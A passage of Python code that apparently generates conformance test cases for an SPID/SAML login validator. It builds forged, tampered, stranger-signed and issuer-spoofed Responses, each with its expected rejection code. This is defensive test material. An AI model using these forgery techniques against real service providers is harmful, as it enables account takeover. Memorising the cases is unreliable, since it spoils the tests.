        B.but(resp_sig=stranger(), assert_sig=stranger()),
    )
    g.invalid(
        "both signed by a stranger whose certificate (copying the IdP's name) is in KeyInfo: the Response signature already names an untrusted certificate",
        f,
        "xmldsig.key.untrusted",
        ["UntrustedSigningKey"],
    )
    f = out.doc(
        "stranger-both-no-keyinfo", "Response and Assertion signed by the stranger key, no KeyInfo", B.but(key="rsa2048-b", cert=None)
    )
    g.invalid(
        "both signed by a stranger, no KeyInfo: the IdP's key does not verify the Response signature",
        f,
        "xmldsig.signature.invalid",
        ["UntrustedSigningKey"],
    )
    f = out.doc(
        "stranger-assertion-keyinfo",
        "Response unsigned; the Assertion signed by the stranger, its certificate in KeyInfo",
        A1.but(assert_sig=stranger()),
    )
    g.invalid(
        "the Assertion signed by a stranger with its certificate in KeyInfo: that certificate is not a metadata signing certificate of the IdP",
        f,
        "xmldsig.key.untrusted",
        ["UntrustedSigningKey"],
    )
    f = out.doc(
        "stranger-assertion-no-keyinfo",
        "Response unsigned; the Assertion signed by the stranger, no KeyInfo",
        A1.but(assert_sig=Sig(key="rsa2048-b", keyinfo=None)),
    )
    g.invalid(
        "the Assertion signed by a stranger without KeyInfo: indistinguishable from a broken signature",
        f,
        "xmldsig.signature.invalid",
        ["UntrustedSigningKey"],
    )
    f = out.doc(
        "idp-response-stranger-assertion",
        "the Response signed by the IdP over an Assertion signed by the stranger (certificate in KeyInfo)",
        B.but(assert_sig=stranger()),
    )
    g.invalid(
        "a genuine IdP Response signature over an Assertion signed by a stranger: the Response signature verifies, the Assertion's names an untrusted certificate (no upstream case has this mix)",
        f,
        "xmldsig.key.untrusted",
        ["UntrustedSigningKey"],
    )
    f = out.doc(
        "idp-response-stranger-assertion-no-keyinfo",
        "the Response signed by the IdP over an Assertion signed by the stranger without KeyInfo",
        B.but(assert_sig=Sig(key="rsa2048-b", keyinfo=None)),
    )
    g.invalid("the same without KeyInfo in the Assertion signature", f, "xmldsig.signature.invalid", ["UntrustedSigningKey"])
    f = out.doc(
        "stranger-response-idp-assertion",
        "the Response signed by the stranger (certificate in KeyInfo) around an Assertion validly signed by the IdP",
        B.but(resp_sig=stranger()),
    )
    g.invalid(
        "a valid IdP Assertion inside a Response signed by a stranger: a present Response signature is verified and must be the IdP's",
        f,
        "xmldsig.key.untrusted",
        ["UntrustedSigningKey", "OptionalResponseSignature"],
    )
    f = out.doc(
        "keyinfo-lies",
        "Response unsigned; the Assertion signed by the stranger with the IdP's genuine certificate in KeyInfo",
        A1.but(assert_sig=Sig(key="rsa2048-b", keyinfo=("spid-idp",))),
    )
    g.invalid(
        "the stranger's signature presented with the IdP's own certificate in KeyInfo: KeyInfo names a trusted certificate, but its key does not verify",
        f,
        "xmldsig.signature.invalid",
        ["UntrustedSigningKey"],
    )
    f = out.doc(
        "keyinfo-renewed-certificate",
        "Response unsigned; the Assertion signed by the IdP key with another certificate of the same key (spid-idp-renewed) in KeyInfo",
        A1.but(assert_sig=Sig(keyinfo=("spid-idp-renewed",))),
    )
    g.invalid(
        "signed by the IdP's key, but KeyInfo carries a renewed certificate (same key, other serial) that is not in the metadata: by this suite's KeyInfo rule (certificate bytes) the key is untrusted",
        f,
        "xmldsig.key.untrusted",
        ["KeyInfoCertificateBytes"],
    )
    f = out.doc(
        "keyinfo-two-certificates",
        "Response unsigned; the Assertion signed by the IdP, KeyInfo holding the IdP certificate and the stranger's",
        A1.but(assert_sig=Sig(keyinfo=("spid-idp", "stranger"))),
    )
    g.invalid(
        "KeyInfo holds the IdP's certificate and a stranger's: any certificate that is not a metadata signing certificate makes the signature untrusted",
        f,
        "xmldsig.key.untrusted",
        ["KeyInfoCertificateBytes", "UntrustedSigningKey"],
    )
    f = out.doc(
        "untrusted-issuer",
        "both Issuers name an IdP that is not trusted (https://idp.evil.example/spid); signed by the stranger",
        B.but(issuer="https://idp.evil.example/spid", name_qualifier="https://idp.evil.example/spid", key="rsa2048-b", cert="stranger"),
    )
    g.invalid(
        "a Response from an IdP that is not in the trusted metadata: no keys to verify with", f, "saml.issuer.invalid", ["IssuerSpoofing"]
    )
    f = out.doc(
        "untrusted-assertion-issuer",
        "the Assertion Issuer names an untrusted IdP, the Response Issuer the trusted one; everything signed by the IdP",
        B.but(a_issuer="https://idp.evil.example/spid"),
    )
    g.invalid(
        "the Assertion Issuer (which selects the keys) names an untrusted IdP, although the trusted IdP signed everything",
        f,
        "saml.issuer.invalid",
        ["IssuerSpoofing"],
    )
    f = out.doc(
        "issuer-trailing-slash",
        "both Issuers written with a trailing slash (https://idp.idbridge.test/spid/); signed by the IdP",
        B.but(issuer=SPID_IDP + "/"),
    )
    g.invalid("the entityID with a trailing slash: entityIDs are compared as exact strings", f, "saml.issuer.invalid", ["IssuerSpoofing"])

    g = vf.group(
        f"XML-DSig 1.1 4.4 (SignedInfo), 4.4.3 (Reference), 6 (algorithms); {RT_RESP} (RSA >= 2048, SHA-256 or better); SAML core 2.0 5.4.2-5.4.4; {SRC_SPEC} S9"
    )
    g.invalid(
        "the Assertion signature's SignatureValue with its last bit flipped: the digest matches, the RSA signature over SignedInfo does not",
        out.doc(
            "tampered-signaturevalue",
            "Response unsigned; the last bit of the Assertion's SignatureValue flipped after signing",
            A1,
            post=flip_sigvalue(0),
        ),
        "xmldsig.signature.invalid",
        ["TamperedAfterSigning"],
    )
    other = b64(hashlib.sha256(b"other").digest())
    f = out.doc(
        "tampered-digestvalue",
        "Response unsigned; the Assertion's DigestValue replaced after signing",
        A1,
        post=lambda s: re.sub(r"(<ds:DigestValue>)[^<]*(</ds:DigestValue>)", lambda m: m.group(1) + other + m.group(2), s, count=1),
    )
    g.invalid(
        "the DigestValue replaced: the digest no longer matches the Assertion (and SignedInfo's signature is broken too: the digest is checked first)",
        f,
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning", "CheckOrder"],
    )
    f = out.doc(
        "tampered-signedinfo-whitespace",
        "Response unsigned; an extra line feed inserted inside the Assertion's SignedInfo after signing",
        A1,
        post=rep("<ds:SignedInfo>\n", "<ds:SignedInfo>\n\n"),
    )
    g.invalid(
        "whitespace added inside SignedInfo after signing: c14n keeps whitespace text, the signature over SignedInfo fails (the digest still matches)",
        f,
        "xmldsig.signature.invalid",
        ["TamperedAfterSigning"],
    )
    f = out.doc(
        "tampered-fiscalnumber",
        "Response unsigned; the fiscalNumber changed to the attacker's after signing",
        A1,
        post=rep(GIULIA["fiscalNumber"], MALLORY_CF),
    )
    g.invalid(
        "the fiscalNumber replaced after signing: the Assertion digest no longer matches",
        f,
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning"],
    )
    f = out.doc("tampered-name-both-signed", "both signed; the name changed after signing", post=rep(">Giulia<", ">Mallory<"))
    g.invalid(
        "the name changed after signing in a Response whose both signatures are present: the Response signature (checked first) covers the Assertion",
        f,
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning"],
    )
    f = out.doc(
        "tampered-response-issueinstant",
        "both signed; the Response IssueInstant moved by one second after signing (still inside the window)",
        post=rep('IssueInstant="2026-03-01T10:00:10Z" Destination', 'IssueInstant="2026-03-01T10:00:11Z" Destination'),
    )
    g.invalid(
        "a Response attribute changed after signing (to a value that would otherwise pass): the Response digest no longer matches",
        f,
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning"],
    )
    f = out.doc(
        "tampered-keyinfo-removed-response",
        "both signed; the Response Signature's KeyInfo removed after signing (KeyInfo is not signed)",
        post=lambda s: s[: s.index("    <ds:KeyInfo>")] + s[s.index("</ds:KeyInfo>\n") + len("</ds:KeyInfo>\n") :],
    )
    g.valid(
        "the Response Signature's KeyInfo cut out after signing: KeyInfo is outside SignedInfo, the key comes from metadata",
        f,
        ident,
        ["Tolerance"],
    )
    for slug, sig, code, what, flags in [
        (
            "alg-rsa-sha1",
            Sig(sm=RSA_SHA1),
            "xmldsig.algorithm.forbidden",
            "SignatureMethod rsa-sha1 (otherwise a correct signature)",
            ["WeakAlgorithm"],
        ),
        ("alg-digest-sha1", Sig(dm=SHA1), "xmldsig.algorithm.forbidden", "DigestMethod sha1", ["WeakAlgorithm"]),
        (
            "alg-hmac-sha256",
            Sig(sm=HMAC_SHA256, keyinfo=None),
            "xmldsig.algorithm.forbidden",
            "SignatureMethod hmac-sha256 (a shared-secret MAC, no KeyInfo)",
            ["WeakAlgorithm"],
        ),
        (
            "alg-c14n-inclusive",
            Sig(cm=C14N),
            "xmldsig.algorithm.forbidden",
            "CanonicalizationMethod inclusive c14n 1.0 (SignedInfo signed that way)",
            ["WeakAlgorithm"],
        ),
        (
            "alg-c14n-exc-with-comments",
            Sig(cm=EXC_WC),
            "xmldsig.algorithm.forbidden",
            "CanonicalizationMethod exc-c14n#WithComments (SignedInfo signed that way)",
            ["WeakAlgorithm"],
        ),
        ("transforms-none", Sig(transforms=()), "xmldsig.transform.forbidden", "a Reference without Transforms", ["TransformChain"]),
        (
            "transforms-exc-only",
            Sig(transforms=(EXC,)),
            "xmldsig.transform.forbidden",
            "only the exc-c14n transform (no enveloped-signature)",
            ["TransformChain"],
        ),
        (
            "transforms-enveloped-only",
            Sig(transforms=(ENV,)),
            "xmldsig.transform.forbidden",
            "only enveloped-signature (no c14n transform: inclusive c14n by default)",
            ["TransformChain"],
        ),
        (
            "transforms-inclusive",
            Sig(transforms=(ENV, C14N)),
            "xmldsig.transform.forbidden",
            "enveloped-signature then inclusive c14n 1.0",
            ["TransformChain"],
        ),
        (
            "transforms-with-comments",
            Sig(transforms=(ENV, EXC_WC)),
            "xmldsig.transform.forbidden",
            "enveloped-signature then exc-c14n#WithComments",
            ["TransformChain"],
        ),
        (
            "transforms-reversed",
            Sig(transforms=(EXC, ENV)),
            "xmldsig.transform.forbidden",
            "exc-c14n then enveloped-signature (reversed)",
            ["TransformChain"],
        ),
        (
            "transforms-three",
            Sig(transforms=(ENV, EXC, EXC)),
            "xmldsig.transform.forbidden",
            "enveloped-signature, exc-c14n, exc-c14n (three transforms)",
            ["TransformChain"],
        ),
        (
            "reference-uri-empty",
            Sig(uris=("",)),
            "xmldsig.reference.invalid",
            'Reference URI="" (the whole document) although the Assertion has an ID',
            ["ReferenceConfusion"],
        ),
        (
            "reference-uri-bare-id",
            Sig(uris=("@BARE@",)),
            "xmldsig.reference.invalid",
            "Reference URI = the Assertion ID without '#'",
            ["ReferenceConfusion"],
        ),
        (
            "reference-two",
            Sig(uris=(None, None)),
            "xmldsig.reference.invalid",
            "two References, both to the Assertion",
            ["ReferenceConfusion"],
        ),
    ]:
        edit = None
        if slug == "reference-uri-bare-id":
            edit = put("Assertion/Signature", lambda R: Sig(uris=(R.find("Assertion").get("ID"),)))
        f = out.doc(
            slug, f"Response unsigned; the Assertion signature with {what}", A1.but(assert_sig=sig) if edit is None else A1, edit=edit
        )
        g.invalid(
            f"the Assertion signature uses {what}: "
            + {
                "xmldsig.algorithm.forbidden": "not on the allow-list (rsa-sha256/384/512, sha256/384/512, exc-c14n without comments)",
                "xmldsig.transform.forbidden": "the transforms must be exactly enveloped-signature then exc-c14n",
                "xmldsig.reference.invalid": "the one Reference must be '#' + the Assertion's ID",
            }[code],
            f,
            code,
            flags,
        )
    f = out.doc(
        "reference-assertion-id-empty",
        'Response unsigned; Assertion ID="" and its signature\'s Reference URI="#"',
        A1,
        edit=sa("Assertion", "ID", ""),
    )
    g.invalid(
        'the Assertion\'s ID is empty (Reference URI="#"): nothing to reference',
        f,
        "xmldsig.reference.invalid",
        ["ReferenceConfusion", "MissingElement"],
    )
    f = out.doc(
        "reference-assertion-id-missing",
        'Response unsigned; Assertion without ID, its signature with Reference URI=""',
        A1,
        edit=seq(da("Assertion", "ID"), put("Assertion/Signature", Sig(uris=("",)))),
    )
    g.invalid(
        'the Assertion has no ID and its signature covers the whole document (URI="")',
        f,
        "xmldsig.reference.invalid",
        ["ReferenceConfusion", "MissingElement"],
    )
    f = out.doc(
        "reference-response-id-missing",
        'the Response without ID, its signature with Reference URI=""; the Assertion signed normally',
        B,
        edit=seq(da("", "ID"), put("Signature", Sig(uris=("",)))),
    )
    g.invalid(
        'the Response has no ID and its signature covers the whole document (URI=""): a present Response signature must reference the Response\'s ID',
        f,
        "xmldsig.reference.invalid",
        ["ReferenceConfusion", "MissingElement"],
    )
    f = out.doc(
        "two-assertion-signatures",
        "Response unsigned; the Assertion holds two valid Signatures by the IdP",
        A1,
        edit=lambda R: R.find("Assertion").children.insert(2, Sig()),
    )
    g.add(
        "two Signature children in the Assertion (both valid): exactly one is allowed; the code is not fixed by the spec (xmldsig.signature.invalid in the current core)",
        f,
        "invalid",
        flags=["ReferenceConfusion"],
    )

    g = vf.group(f"{RT_RESP} (RSA keys of at least 2048 bits); {SRC_SPEC} section 1.1", trust=["metadata/idp-weak.xml"])
    pw = B.but(issuer=SPID_WEAK, name_qualifier=SPID_WEAK, key="rsa1024", cert="spid-weak")
    f = out.doc("weak-idp-key", f"a Response of {SPID_WEAK} signed with its 1024-bit key (certificate spid-weak in KeyInfo)", pw)
    g.add(
        "the IdP's only metadata key is RSA-1024: refused (at trust building or at verification; the code is not fixed)",
        f,
        "invalid",
        flags=["WeakAlgorithm"],
    )

    g = vf.group(
        f"SAML metadata 2.0 2.3.2 (EntitiesDescriptor); {SRC_SPEC} S4 (the Issuer selects the keys)", trust=["metadata/registry.xml"]
    )
    f = out.doc(
        "cross-idp-key-keyinfo",
        f"Issuer {SPID_IDP}, both signatures by the second IdP's key with its certificate (spid-idp2) in KeyInfo",
        B.but(key="rsa4096", cert="spid-idp2"),
    )
    g.invalid(
        "the Response names the first IdP but is signed by the second trusted IdP (its certificate in KeyInfo): only the named IdP's keys count",
        f,
        "xmldsig.key.untrusted",
        ["CrossIdpKey"],
    )
    f = out.doc(
        "cross-idp-key-no-keyinfo",
        f"Issuer {SPID_IDP}, both signatures by the second IdP's key, no KeyInfo",
        B.but(key="rsa4096", cert=None),
    )
    g.invalid("the same without KeyInfo: the first IdP's key does not verify", f, "xmldsig.signature.invalid", ["CrossIdpKey"])
    f = out.doc(
        "cross-idp-response-issuer",
        "the Response Issuer names the second IdP, the Assertion Issuer the first; everything signed by the first IdP",
        B.but(issuer=SPID_IDP2, a_issuer=SPID_IDP),
    )
    g.invalid(
        "the Response Issuer names another trusted IdP than the Assertion Issuer (which selected the keys and verified)",
        f,
        "saml.issuer.invalid",
        ["IssuerSpoofing", "CrossIdpKey"],
    )
    f = out.doc(
        "cross-idp-assertion-issuer",
        "the Assertion Issuer names the second IdP, the Response Issuer the first; everything signed by the first IdP (certificate in KeyInfo)",
        B.but(a_issuer=SPID_IDP2),
    )
    g.invalid(
        "the Assertion Issuer names the second IdP, so only its keys may verify; the first IdP's certificate in KeyInfo is not one of them",
        f,
        "xmldsig.key.untrusted",
        ["IssuerSpoofing", "CrossIdpKey"],
    )


CODE_WHY = {
    "saml.structure.invalid": "a required element or attribute is missing, empty or repeated, which is a structure error",
    "saml.version.invalid": "only SAML Version 2.0 is accepted",
    "saml.issuer.invalid": "the Issuer must name the trusted IdP, with Format absent or the entity format (required on the SPID Assertion)",
    "saml.subject.invalid": "SPID prescribes a transient NameID, the bearer method and, when present, SPNameQualifier = this SP",
    "saml.recipient.mismatch": "Recipient must be exactly this ACS URL",
    "saml.audience.mismatch": "this SP must be an Audience of every AudienceRestriction, compared as exact strings",
    "saml.in_response_to.mismatch": "InResponseTo must be exactly the ID of the AuthnRequest",
    "saml.destination.mismatch": "Destination must be exactly this ACS URL",
    "saml.attribute.invalid": "attributes are named, single-valued and plain text, and the identity ones have a fixed form",
}


def why(what, code):
    """A comment: what is wrong, then why the result follows (unless the text already says it)."""
    return what if ":" in what or code not in CODE_WHY else f"{what}: {CODE_WHY[code]}"


def failure_status(top, sub=None, message=None, detail=False, prefix="samlp"):
    code = El(f"{prefix}:StatusCode", [("Value", top)], [El(f"{prefix}:StatusCode", [("Value", sub)])] if sub else [])
    kids = [code]
    if message is not None:
        kids.append(El(f"{prefix}:StatusMessage", text=esc(message)))
    if detail:
        kids.append(El(f"{prefix}:StatusDetail", children=[El("idbr:Reason", [("xmlns:idbr", IDBR)], text="user pressed Annulla")]))
    return El(f"{prefix}:Status", children=kids)


def set_status(status, keep_assertion=False):
    def f(R):
        i = R.index(R.find("Status"))
        R.children[i] = status
        if not keep_assertion:
            R.remove("Assertion")

    return f


SPID_ERRORS = [
    (19, "repeated submission of wrong credentials (more attempts than the IdP allows)"),
    (20, "the user has no credentials of the requested level"),
    (21, "timeout during the user's authentication"),
    (22, "the user denied consent to send the data to the SP"),
    (23, "the user's identity is suspended or revoked, or the credentials are locked"),
    (24, "reserved (the Regole Tecniche keep the number without a meaning)"),
    (25, "the user cancelled the authentication"),
    (30, "the identity is not of the expected kind (professional or legal-person identity, AgID Avviso 18)"),
]


def response_cases(out):
    B = out.base()
    ident = identity_of(B)
    A1 = B.but(resp_sig=None)
    vf = out.vfile(
        "response.json",
        "the Response header (S6), Status (S7) and the Assertion's presence (S8)",
        [
            "The values of the Response element and its Status: Version, ID, IssueInstant, Destination, InResponseTo, Issuer; Success and the SPID failure codes ('ErrorCode nrNN'); a Success without Assertion.",
            f"Generated by {GEN}. Header defects are signed by the IdP (both signatures valid) unless the defect would break the Response signature's Reference (a missing ID): those Responses are unsigned.",
        ],
    )
    g = vf.group(
        f"{RT_RESP} (Response 'SI DEVE': ID, Version 2.0, IssueInstant, InResponseTo, Destination, Issuer); SAML core 2.0 3.2.2; SAML bindings 2.0 3.5.5.2; {SRC_SPEC} S6"
    )
    miss = lambda slug, what, edit, p=None, flags=("MissingElement",), code="saml.structure.invalid": g.invalid(
        why(what, code), out.doc(slug, what, p or B, edit=edit), code, list(flags)
    )
    g.invalid(
        why('Version="1.0"', "saml.version.invalid"),
        out.doc("response-version-1.0", 'Response Version="1.0" (signed)', edit=sa("", "Version", "1.0")),
        "saml.version.invalid",
        [],
    )
    g.invalid(
        why('Version="2.1"', "saml.version.invalid"),
        out.doc("response-version-2.1", 'Response Version="2.1" (signed)', edit=sa("", "Version", "2.1")),
        "saml.version.invalid",
        [],
    )
    miss("response-version-missing", "the Response without Version (signed)", da("", "Version"))
    miss("response-id-empty", 'Response ID="" (Response unsigned, Assertion signed)', sa("", "ID", ""), A1)
    miss("response-id-missing", "the Response without ID (Response unsigned, Assertion signed)", da("", "ID"), A1)
    miss("response-issueinstant-missing", "the Response without IssueInstant (signed)", da("", "IssueInstant"))
    miss("response-issueinstant-empty", 'Response IssueInstant="" (signed)', sa("", "IssueInstant", ""))
    miss(
        "response-destination-missing",
        "the Response without Destination (signed)",
        da("", "Destination"),
        flags=("MissingElement", "WrongEndpoint"),
    )
    miss(
        "response-destination-empty",
        'Response Destination="" (signed)',
        sa("", "Destination", ""),
        flags=("MissingElement", "WrongEndpoint"),
    )
    for slug, value, what in [
        ("response-destination-other", "https://other-sp.idbridge.test/acs", "another SP's ACS URL"),
        ("response-destination-trailing-slash", ACS + "/", "the ACS URL with a trailing slash"),
        ("response-destination-http", ACS.replace("https:", "http:"), "the ACS URL with http: instead of https:"),
        (
            "response-destination-uppercase-host",
            ACS.replace("sp.idbridge", "SP.idbridge"),
            "the ACS URL with the host in upper case (exact string comparison)",
        ),
    ]:
        g.invalid(
            why(f"Destination = {what}", "saml.destination.mismatch"),
            out.doc(slug, f"Response Destination {value} (signed)", edit=sa("", "Destination", value)),
            "saml.destination.mismatch",
            ["WrongEndpoint"],
        )
    miss(
        "response-inresponseto-missing",
        "the Response without InResponseTo (signed; the SubjectConfirmationData one is right)",
        da("", "InResponseTo"),
        flags=("MissingElement", "ForeignOrUnsolicitedResponse"),
    )
    miss(
        "response-inresponseto-empty",
        'Response InResponseTo="" (signed)',
        sa("", "InResponseTo", ""),
        flags=("MissingElement", "ForeignOrUnsolicitedResponse"),
    )
    g.invalid(
        why("InResponseTo names another AuthnRequest", "saml.in_response_to.mismatch"),
        out.doc(
            "response-inresponseto-other",
            "Response InResponseTo of another request (signed)",
            edit=sa("", "InResponseTo", "_idbr-spid-req-0000000000000000000"),
        ),
        "saml.in_response_to.mismatch",
        ["ForeignOrUnsolicitedResponse"],
    )
    g.invalid(
        why("InResponseTo is the request ID with one more character", "saml.in_response_to.mismatch"),
        out.doc(
            "response-inresponseto-suffix",
            "Response InResponseTo = the request ID + 'x' (signed)",
            edit=sa("", "InResponseTo", SPID_REQ + "x"),
        ),
        "saml.in_response_to.mismatch",
        ["ForeignOrUnsolicitedResponse"],
    )
    miss(
        "response-issuer-missing",
        "the Response without Issuer (signed; the Assertion Issuer selects the IdP)",
        rm("Issuer"),
        flags=("MissingElement", "IssuerSpoofing"),
    )
    miss("response-issuer-empty", "an empty Response Issuer (signed)", st("Issuer", ""), flags=("MissingElement", "IssuerSpoofing"))
    miss(
        "response-issuer-blank",
        "a Response Issuer of spaces and a line feed (signed)",
        st("Issuer", "  \n  "),
        flags=("MissingElement", "IssuerSpoofing"),
    )
    g.invalid(
        "the Response Issuer names another entity (the Assertion Issuer, which selects the keys, is right)",
        out.doc(
            "response-issuer-other",
            "Response Issuer https://idp.evil.example/spid (signed)",
            edit=st("Issuer", "https://idp.evil.example/spid"),
        ),
        "saml.issuer.invalid",
        ["IssuerSpoofing"],
    )
    g.invalid(
        "the Response Issuer Format is ...nameid-format:unspecified",
        out.doc(
            "response-issuer-format-other",
            "Response Issuer Format ...:unspecified (signed)",
            edit=sa("Issuer", "Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"),
        ),
        "saml.issuer.invalid",
        ["IssuerSpoofing"],
    )

    g = vf.group(
        f"{RT_RESP} (Response: Status; messaggi-errore.rst, anomalies nr19-nr25, nr30); SAML core 2.0 3.2.2.1-3.2.2.2 (Status, StatusCode); {SRC_SPEC} S7, S8"
    )
    responder, failed = ST + "Responder", ST + "AuthnFailed"
    for nr, meaning in SPID_ERRORS:
        f = out.doc(
            f"status-nr{nr}",
            f"Status Responder / AuthnFailed / 'ErrorCode nr{nr}' ({meaning}), no Assertion, Response signed",
            edit=set_status(failure_status(responder, failed, f"ErrorCode nr{nr}")),
        )
        g.invalid(
            f"SPID anomaly {nr}: {meaning} (Responder, nested AuthnFailed, StatusMessage 'ErrorCode nr{nr}', no Assertion)",
            f,
            "saml.status.failure",
            ["StatusFailure"],
        )
    for slug, top, sub, msg, what in [
        (
            "status-requester-nr09",
            ST + "Requester",
            ST + "VersionMismatch",
            "ErrorCode nr09",
            "the AuthnRequest's Version is not 2.0 (Requester / VersionMismatch, nr09)",
        ),
        (
            "status-requester-nr12",
            ST + "Requester",
            ST + "NoAuthnContext",
            "ErrorCode nr12",
            "RequestedAuthnContext cannot be satisfied (Requester / NoAuthnContext, nr12)",
        ),
        ("status-requester-nr15", ST + "Requester", ST + "NoPassive", "ErrorCode nr15", "IsPassive was set (Requester / NoPassive, nr15)"),
        ("status-versionmismatch", ST + "VersionMismatch", None, None, "top-level VersionMismatch, no nested code, no message"),
        (
            "status-requestdenied",
            ST + "Responder",
            ST + "RequestDenied",
            "Richiesta rifiutata",
            "Responder / RequestDenied with a free-text message (no SPID number)",
        ),
        (
            "status-success-lowercase",
            "urn:oasis:names:tc:SAML:2.0:status:success",
            None,
            None,
            "the Success URN in lower case ('...status:success'): not Success",
        ),
    ]:
        f = out.doc(
            slug,
            f"Status {top.rsplit(':', 1)[1]}{' / ' + sub.rsplit(':', 1)[1] if sub else ''}{' / ' + repr(msg) if msg else ''}, no Assertion, Response signed",
            edit=set_status(failure_status(top, sub, msg)),
        )
        g.invalid(what, f, "saml.status.failure", ["StatusFailure"])
    f = out.doc(
        "status-with-detail",
        "Status Responder / AuthnFailed / 'ErrorCode nr25' with a StatusDetail, Response signed",
        edit=set_status(failure_status(responder, failed, "ErrorCode nr25", detail=True)),
    )
    g.invalid("a failure with StatusDetail (ignored) besides the message 'ErrorCode nr25'", f, "saml.status.failure", ["StatusFailure"])
    f = out.doc(
        "status-failure-unsigned",
        "Status Responder / AuthnFailed / 'ErrorCode nr22', no Assertion, Response unsigned",
        A1,
        edit=set_status(failure_status(responder, failed, "ErrorCode nr22")),
    )
    g.invalid(
        "an unsigned failure Response: still saml.status.failure, its details unauthenticated",
        f,
        "saml.status.failure",
        ["StatusFailure", "UnauthenticatedStatus"],
    )
    f = out.doc(
        "status-failure-stranger-signed",
        "Status Responder / AuthnFailed / 'ErrorCode nr22', no Assertion, Response signed by the stranger (certificate in KeyInfo)",
        B.but(resp_sig=Sig(key="rsa2048-b", keyinfo=("stranger",))),
        edit=set_status(failure_status(responder, failed, "ErrorCode nr22")),
    )
    g.invalid(
        "a failure Response signed by a stranger: the present Response signature is checked before the Status and fails",
        f,
        "xmldsig.key.untrusted",
        ["UnauthenticatedStatus", "UntrustedSigningKey", "CheckOrder"],
    )
    f = out.doc(
        "status-failure-tampered",
        "Status Responder / AuthnFailed / 'ErrorCode nr19', signed, then the message changed to 'ErrorCode nr25'",
        edit=set_status(failure_status(responder, failed, "ErrorCode nr19")),
        post=rep("ErrorCode nr19", "ErrorCode nr25"),
    )
    g.invalid(
        "a signed failure Response whose StatusMessage was changed after signing: the Response signature fails first",
        f,
        "xmldsig.digest.mismatch",
        ["TamperedAfterSigning", "UnauthenticatedStatus", "CheckOrder"],
    )
    f = out.doc(
        "status-failure-with-assertion",
        "Status Responder / AuthnFailed / 'ErrorCode nr21' followed by a valid signed Assertion",
        edit=set_status(failure_status(responder, failed, "ErrorCode nr21"), keep_assertion=True),
    )
    g.invalid(
        "a failure Status followed by a valid signed Assertion: the Status decides, the Assertion is not read",
        f,
        "saml.status.failure",
        ["StatusFailure"],
    )
    f = out.doc(
        "status-success-nested",
        "Status Success with a nested StatusCode (...:AuthnFailed)",
        edit=lambda R: R.find("Status/StatusCode").children.append(El("samlp:StatusCode", [("Value", failed)])),
    )
    g.valid(
        "a Success top-level code with a nested code: only the top-level code decides (the nested one is never validated)",
        f,
        ident,
        ["Tolerance"],
    )
    miss("status-missing", "the Response without Status (signed)", rm("Status"))
    miss("status-empty", "an empty <samlp:Status/> (signed)", lambda R: R.find("Status").children.clear())
    miss("statuscode-value-empty", 'StatusCode Value="" (signed)', sa("Status/StatusCode", "Value", ""))
    miss("statuscode-value-missing", "StatusCode without Value (signed)", da("Status/StatusCode", "Value"))
    miss(
        "status-message-first",
        "Status holding a StatusMessage before the StatusCode (signed)",
        lambda R: R.find("Status").children.insert(0, El("samlp:StatusMessage", text="ok")),
        flags=("MissingElement", "StrictEnvelope"),
    )
    miss("success-no-assertion", "Status Success and no Assertion, Response signed", rm("Assertion"))
    miss("success-no-assertion-unsigned", "Status Success and no Assertion, Response unsigned", rm("Assertion"), A1)


def assertion_cases(out):
    B = out.base()
    vf = out.vfile(
        "assertion.json",
        "the Assertion (S10a-S10f) and the identity attributes (S11)",
        [
            "Every rule on the Assertion: header, Issuer, Subject and its confirmation, Conditions, AuthnStatement, AttributeStatement, and the identity read from the attributes.",
            f"Generated by {GEN}. Each defect is in the document the IdP signed: both signatures are valid, so only the rule named in the comment can refuse it.",
        ],
    )
    src = f"{RT_RESP} (Assertion 'SI DEVE' bullets); SAML core 2.0 2.3.3, 2.4, 2.5, 2.7; SAML profiles 2.0 4.1.4.2; {SRC_SPEC}"
    g = vf.group(src)

    def case(slug, what, edit, code="saml.structure.invalid", flags=("MissingElement",), p=None):
        g.invalid(why(what, code), out.doc(slug, what + " (signed)", p or B, edit=edit), code, list(flags))

    # S10a
    case("assertion-version-1.0", 'Assertion Version="1.0"', sa("Assertion", "Version", "1.0"), "saml.version.invalid", [])
    case("assertion-version-missing", "the Assertion without Version", da("Assertion", "Version"))
    case("assertion-issueinstant-missing", "the Assertion without IssueInstant", da("Assertion", "IssueInstant"))
    case("assertion-issueinstant-empty", 'Assertion IssueInstant=""', sa("Assertion", "IssueInstant", ""))
    case(
        "assertion-advice",
        "an empty saml:Advice in the Assertion (after Conditions)",
        lambda R: R.find("Assertion").insert_after("Conditions", El("saml:Advice", children=[El("saml:AssertionIDRef", text="_x")])),
        flags=("StrictEnvelope",),
    )
    # S10b
    case(
        "assertion-issuer-missing",
        "the Assertion without Issuer (the Signature becomes its first child)",
        rm("Assertion/Issuer"),
        flags=("MissingElement", "IssuerSpoofing"),
    )
    case(
        "assertion-issuer-empty",
        "an empty Assertion Issuer (the Response Issuer selects the IdP)",
        st("Assertion/Issuer", ""),
        flags=("MissingElement", "IssuerSpoofing"),
    )
    case(
        "assertion-issuer-format-missing",
        "the Assertion Issuer without Format (SPID requires ...nameid-format:entity)",
        da("Assertion/Issuer", "Format"),
        "saml.issuer.invalid",
        ["IssuerSpoofing"],
    )
    case(
        "assertion-issuer-format-empty",
        'Assertion Issuer Format=""',
        sa("Assertion/Issuer", "Format", ""),
        "saml.issuer.invalid",
        ["IssuerSpoofing"],
    )
    case(
        "assertion-issuer-format-other",
        "Assertion Issuer Format ...nameid-format:transient",
        sa("Assertion/Issuer", "Format", TRANSIENT),
        "saml.issuer.invalid",
        ["IssuerSpoofing"],
    )
    # S10c
    sub = "Assertion/Subject"
    case("subject-missing", "the Assertion without Subject", rm(sub), flags=("MissingElement", "SubjectConfirmation"))
    case("subject-empty", "an empty saml:Subject", lambda R: R.find(sub).children.clear(), flags=("MissingElement", "SubjectConfirmation"))
    case(
        "nameid-missing",
        "Subject without NameID (SubjectConfirmation only)",
        rm(sub + "/NameID"),
        flags=("MissingElement", "SubjectConfirmation"),
    )
    case(
        "nameid-encryptedid",
        "Subject with a saml:EncryptedID instead of the NameID",
        put(
            sub + "/NameID",
            El(
                "saml:EncryptedID",
                children=[
                    El(
                        "xenc:EncryptedData",
                        [("xmlns:xenc", XENC)],
                        [El("xenc:CipherData", children=[El("xenc:CipherValue", text=b64(b"x" * 48))])],
                    )
                ],
            ),
        ),
